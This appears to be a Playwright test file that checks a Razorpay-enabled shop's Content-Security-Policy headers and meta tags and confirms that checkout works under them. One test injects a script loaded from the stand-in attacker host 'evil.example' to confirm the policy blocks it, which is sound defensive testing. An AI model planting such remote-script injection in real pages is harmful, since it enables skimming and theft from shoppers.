import { expect, test } from './provider-test'
import { goToCheckout, placeOrder } from './safety-payment'
import { watchViolations } from './watch-violations'

const SCRIPTS = 'https://checkout.razorpay.com https://cdn.razorpay.com'
const EXPECTED = [
  "default-src 'self'",
  "style-src 'self' 'unsafe-inline'",
  "img-src 'self' data: blob: https://cdn.razorpay.com",
  "connect-src 'self' https://lumberjack.razorpay.com https://lumberjack-metrics.razorpay.com",
  "frame-src 'self' https://api.razorpay.com https://checkout.razorpay.com",
  "object-src 'none'",
  "base-uri 'none'",
  "form-action 'self'",
]

test('every page of a shop with a provider allows only the provider’s hosts, in its meta tag and in the host’s header', async ({
  page,
}) => {
  for (const path of ['/', '/products', '/login']) {
    const headers = (await page.request.get(path, { headers: { accept: 'text/html' } })).headers()
    await page.goto(path)
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
    const [scripts, ...others] = [/^script-src /, /^(?!script-src )/].flatMap((kind) =>
      (meta ?? '').split('; ').filter((directive) => kind.test(directive)),
    )
    expect(others, path).toEqual(EXPECTED)
    expect(scripts).toMatch(new RegExp(`^script-src 'self'( 'sha256-[\\w+/=]+')* ${SCRIPTS}$`))
    expect(headers['content-security-policy']).toBe(`${meta}; frame-ancestors 'self'`)
    expect(headers['content-security-policy-report-only']).toBe(
      "require-trusted-types-for 'script'; trusted-types razorpay json-ld worker",
    )
  }
})

test('no policy blocks a purchase at the provider, and the shop itself violates none', async ({
  page,
  shop,
  provider,
}) => {
  const violations = await watchViolations(page)
  await goToCheckout(shop)
  await placeOrder(page).click()
  await provider.expectWindows(1)
  await expect(page.frameLocator('iframe.provider').getByText('Pay')).toBeAttached()
  await provider.succeed('pay_policy')
  await expect(shop.heading('Order Placed Successfully!')).toBeVisible()
  // The policy blocks nothing. Trusted Types are only reported, because the provider's own script does not use them.
  expect(violations).toEqual(['report: require-trusted-types-for trusted-types-sink'])
})

test('only the provider’s script can be created from an address', async ({ page, shop, alarm }) => {
  alarm.expectConsole(/Content Security Policy/)
  alarm.expectCallsTo('https://evil.example/')
  const violations = await watchViolations(page)
  await goToCheckout(shop)
  await page.evaluate(() => {
    const script = document.createElement('script')
    script.src = 'https://evil.example/checkout.js'
    document.body.append(script)
  })
  await expect.poll(() => violations).toContain('enforce: script-src-elem https://evil.example/checkout.js')
  expect(violations).toContain('report: require-trusted-types-for trusted-types-sink')
})
